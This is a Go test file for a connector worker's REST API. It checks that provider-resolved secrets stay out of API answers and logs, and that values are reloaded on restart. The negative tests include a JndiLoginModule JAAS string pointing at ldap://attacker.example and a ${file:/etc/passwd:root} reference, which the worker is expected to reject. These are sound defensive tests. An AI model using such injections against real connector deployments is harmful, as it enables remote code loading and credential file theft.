package rest_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"millrace/connectors"
	"millrace/runtime/provider"
	"millrace/schema/config"
	"millrace/schema/plugin"
)

var (
	tellHow  = config.Key[string]{Name: "how", Doc: "What the task does."}
	tellText = config.Key[string]{Name: "text", Doc: "What it tells."}
	tellPass = config.Key[config.Password]{Name: "password", Doc: "What it keeps."}
	tellPort = config.Key[int32]{Name: "port", Doc: "A number.", Default: 1}
)

// tell is a source that tells everybody what it was configured with. got has the texts that its tasks ran on.
func tell(got *sync.Map, runs *atomic.Int32) plugin.Plugin {
	return connectors.SourcePlugin{
		Info:      plugin.Info{Name: "tell", Class: "org.example.TellSource", Version: "1", Doc: "Tells.", Config: config.Define(tellHow, tellText, tellPass, tellPort)},
		TaskClass: "org.example.TellTask",
		New: func(cc connectors.Context, v config.Values) (connectors.Source, error) {
			return &teller{cc, v, got, runs}, nil
		},
		NewTask: func(cc connectors.Context, v config.Values) (connectors.SourceTask, error) {
			return &teller{cc, v, got, runs}, nil
		},
	}
}

type teller struct {
	cc   connectors.Context
	v    config.Values
	got  *sync.Map
	runs *atomic.Int32
}

func (s *teller) Tasks(context.Context, int) ([]map[string]string, error) {
	if tellHow.Get(s.v) == "fail to plan" {
		return nil, errors.New("cannot plan with " + tellText.Get(s.v))
	}
	task := map[string]string{}
	for k, v := range s.v.Raw {
		task[k] = v
	}
	task["made.of.it"] = "url://" + tellPass.Get(s.v).Reveal() + "/"
	return []map[string]string{task}, nil
}

func (s *teller) Validate(context.Context) []*config.Error {
	s.cc.Log.Info("validating", "text", tellText.Get(s.v))
	if tellHow.Get(s.v) == "refuse" {
		return []*config.Error{tellText.Errorf(s.v, "%s is not to my liking", tellText.Get(s.v))}
	}
	return nil
}

func (s *teller) Run(ctx context.Context, _ connectors.Out) error {
	s.got.Store(s.cc.Connector, tellText.Get(s.v)+"|"+tellPass.Get(s.v).Reveal()+"|"+s.v.Raw["made.of.it"])
	s.runs.Add(1)
	s.cc.Log.Warn("running with "+tellText.Get(s.v), "password", tellPass.Get(s.v).Reveal(), "err", fmt.Errorf("all of %v", s.v.Raw))
	switch tellHow.Get(s.v) {
	case "fail":
		r := &connectors.Reason{Code: "tell.failed", Doc: "It fails.", Remedy: "none", Retry: connectors.RetryNever}
		return connectors.Failed(r, errors.New("driver says "+tellPass.Get(s.v).Reveal()), "refused with "+tellText.Get(s.v), "use another than "+tellText.Get(s.v))
	case "panic":
		panic("at " + tellText.Get(s.v))
	}
	<-ctx.Done()
	return nil
}

func (s *teller) Progress(context.Context) connectors.Progress {
	return connectors.Progress{Position: "reading at " + tellText.Get(s.v), Behind: -1}
}

func (s *teller) Commit(context.Context, []connectors.Offset) error { return nil }

// lockedLog keeps what is logged.
type lockedLog struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *lockedLog) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *lockedLog) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.String()
}

func (w *worker) call(t *testing.T, method, path string, body any) (int, string) {
	t.Helper()
	var in io.Reader
	if body != nil {
		b, err := json.Marshal(body)
		if err != nil {
			t.Fatal(err)
		}
		in = bytes.NewReader(b)
	}
	r, err := http.NewRequestWithContext(t.Context(), method, w.url+path, in)
	if err != nil {
		t.Fatal(err)
	}
	r.Header.Set("Content-Type", "application/json")
	res, err := http.DefaultClient.Do(r)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	b, err := io.ReadAll(res.Body)
	if err != nil {
		t.Fatal(err)
	}
	return res.StatusCode, string(b)
}

func (w *worker) until(t *testing.T, what string, done func() bool) {
	t.Helper()
	for end := time.Now().Add(time.Minute); !done(); time.Sleep(5 * time.Millisecond) {
		if time.Now().After(end) {
			t.Fatalf("not within a minute: %s", what)
		}
	}
}

// TestConnectorsRunOnValuesAndNobodyElseSeesThem follows secrets of a provider through a worker: what runs has
// them, and no answer and no line of the log does.
func TestConnectorsRunOnValuesAndNobodyElseSeesThem(t *testing.T) {
	const text, password = "sesame-open", "hunter2-and-more"
	var logged lockedLog
	var got sync.Map
	var runs atomic.Int32
	t.Setenv("TELL_TEXT", text)
	w := startWorkerWith(t, map[string]string{"config.providers": "env,file", "config.providers.env.class": "env", "config.providers.file.class": "file"},
		slog.New(slog.NewTextHandler(&logged, &slog.HandlerOptions{Level: slog.LevelDebug})), tell(&got, &runs))
	file := filepath.Join(w.dir, "secrets.properties")
	if err := os.WriteFile(file, []byte("password="+password+"\nport=12"), 0o600); err != nil {
		t.Fatal(err)
	}
	var answers strings.Builder
	call := func(method, path string, body any) (int, string) {
		status, answer := w.call(t, method, path, body)
		fmt.Fprintf(&answers, "%s %s: %d %s\n", method, path, status, answer)
		return status, answer
	}
	conf := func(name, how string) map[string]string {
		return map[string]string{"name": name, "connector.class": "tell", "how": how, "text": "${env:TELL_TEXT}", "password": "${file:" + file + ":password}", "port": "${file:" + file + ":port}"}
	}
	for _, how := range []string{"run", "fail", "panic", "fail to plan"} {
		name := strings.ReplaceAll(how, " ", "-")
		if status, answer := call("POST", "/connectors", map[string]any{"name": name, "config": conf(name, how)}); status != http.StatusCreated {
			t.Fatalf("%d %s", status, answer)
		}
		state := "FAILED"
		if how == "run" {
			state = "RUNNING"
		}
		w.until(t, name+" is "+state, func() bool {
			_, status := w.call(t, "GET", "/connectors/"+name+"/status", nil)
			return strings.Count(status, state) > strings.Count(how, "run")
		})
		for _, path := range []string{"", "/config", "/tasks", "/status", "/status?detail=full", "/tasks/0/status?detail=full"} {
			call("GET", "/connectors/"+name+path, nil)
		}
	}
	call("GET", "/connectors?expand=info&expand=status&detail=full", nil)
	w.until(t, "the task says where it reads", func() bool {
		_, answer := call("GET", "/connectors/run/status?detail=full", nil)
		return strings.Contains(answer, "reading at ")
	})
	if v, _ := got.Load("run"); v != text+"|"+password+"|url://"+password+"/" {
		t.Errorf("the task runs on %v", v)
	}
	for _, path := range []string{"/config", "/tasks"} {
		if _, answer := call("GET", "/connectors/run"+path, nil); !strings.Contains(answer, `"text":"${env:TELL_TEXT}"`) || !strings.Contains(answer, `:password}"`) {
			t.Errorf("%s shows %s, want variables", path, answer)
		}
	}
	if _, answer := call("GET", "/connectors/run/tasks", nil); !strings.Contains(answer, `"made.of.it":"url://${file:`+file+`:password}/"`) {
		t.Errorf("a setting that the connector made: %s", answer)
	}

	for _, how := range []string{"run", "refuse"} {
		status, answer := call("PUT", "/connector-plugins/tell/config/validate", conf("v", how))
		if status != 200 || !strings.Contains(answer, `"value":"${env:TELL_TEXT}"`) || strings.Contains(answer, `"error_count":0`) != (how == "run") {
			t.Errorf("validate, %s: %d %s", how, status, answer)
		}
	}
	if status, answer := call("POST", "/connectors", map[string]any{"name": "bad", "config": conf("bad", "refuse")}); status != 400 || !strings.Contains(answer, "not to my liking") {
		t.Errorf("%d %s", status, answer)
	}
	bad := conf("bad", "run")
	bad["port"] = "${env:TELL_TEXT}" // no number, and the error quotes it
	if status, answer := call("POST", "/connectors", map[string]any{"name": "bad", "config": bad}); status != 400 || !strings.Contains(answer, "port: Not a number") {
		t.Errorf("%d %s", status, answer)
	}
	named := conf("v", "run")
	named["transforms"] = "${env:TELL_TEXT}" // a name, which keys of the answer are made of
	call("PUT", "/connector-plugins/tell/config/validate", named)
	jaas := conf("bad", "run")
	t.Setenv("TELL_JAAS", `com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://attacker.example/x";`)
	jaas["producer.override.sasl.jaas.config"] = "${env:TELL_JAAS}"
	if status, answer := call("POST", "/connectors", map[string]any{"name": "bad", "config": jaas}); status != 400 || !strings.Contains(answer, "producer.override.sasl.jaas.config") || strings.Contains(answer, "attacker") {
		t.Errorf("a login module through a variable: %d %s", status, answer)
	}
	outside := conf("bad", "run")
	outside["text"] = "${file:/etc/passwd:root}"
	if status, answer := call("POST", "/connectors", map[string]any{"name": "bad", "config": outside}); status != 400 || !strings.Contains(answer, "configuration text") || !strings.Contains(answer, "lies outside") {
		t.Errorf("%d %s", status, answer)
	}
	// The values change with what the provider has; a restart brings them.
	if err := os.WriteFile(file, []byte("password="+password+"-new\nport=12"), 0o600); err != nil {
		t.Fatal(err)
	}
	if status, answer := call("POST", "/connectors/run/restart?includeTasks=true", nil); status != http.StatusAccepted {
		t.Fatalf("%d %s", status, answer)
	}
	w.until(t, "the task runs on the new value", func() bool { v, _ := got.Load("run"); return strings.Contains(fmt.Sprint(v), password+"-new") })
	for what, text := range map[string]string{"an answer": answers.String(), "the log": logged.String()} {
		for _, secret := range []string{"sesame-open", password} {
			if i := strings.Index(text, secret); i >= 0 {
				t.Errorf("%s holds %s: …%s…", what, secret, text[max(i-300, 0):min(i+100, len(text))])
			}
		}
	}
	if !strings.Contains(logged.String(), "running with [hidden]") || !strings.Contains(answers.String(), "refused with [hidden]") || !strings.Contains(answers.String(), "reading at [hidden]") {
		t.Error("what was told did not get here")
	}
}

// shortLived is a provider whose values hold for a while.
type shortLived struct{ n *atomic.Int32 }

func (p shortLived) Get(_ context.Context, _ string, keys []string) (provider.Data, error) {
	d := provider.Data{Values: map[string]string{}, TTL: time.Millisecond} // at least a second is made of it
	for _, k := range keys {
		d.Values[k] = fmt.Sprintf("value-%d", p.n.Add(1))
	}
	return d, nil
}

// TestWhatExpiresIsRestarted unless the connector says otherwise.
func TestWhatExpiresIsRestarted(t *testing.T) {
	var got sync.Map
	var runs, given atomic.Int32
	short := provider.Plugin{Info: plugin.Info{Name: "short", Class: "org.example.ShortProvider"}, New: func(provider.Context, config.Values) (provider.Provider, error) { return shortLived{&given}, nil }}
	w := startWorkerWith(t, map[string]string{"config.providers": "s", "config.providers.s.class": "short"}, slog.New(slog.DiscardHandler), tell(&got, &runs), short)
	create := func(name string, more map[string]string) {
		conf := map[string]string{"connector.class": "tell", "how": "run", "text": "${s:k}"}
		for k, v := range more {
			conf[k] = v
		}
		if status, answer := w.call(t, "PUT", "/connectors/"+name+"/config", conf); status != http.StatusCreated {
			t.Fatalf("%d %s", status, answer)
		}
		w.until(t, name+" runs", func() bool { _, ok := got.Load(name); return ok })
	}
	create("stays", map[string]string{"config.action.reload": "none"})
	before, _ := got.Load("stays")
	create("follows", nil)
	first, _ := got.Load("follows")
	w.until(t, "a restart brings another value, twice", func() bool {
		v, _ := got.Load("follows")
		return v != first && runs.Load() >= 4
	})
	if after, _ := got.Load("stays"); after != before {
		t.Errorf("%v became %v, and config.action.reload is none", before, after)
	}
}
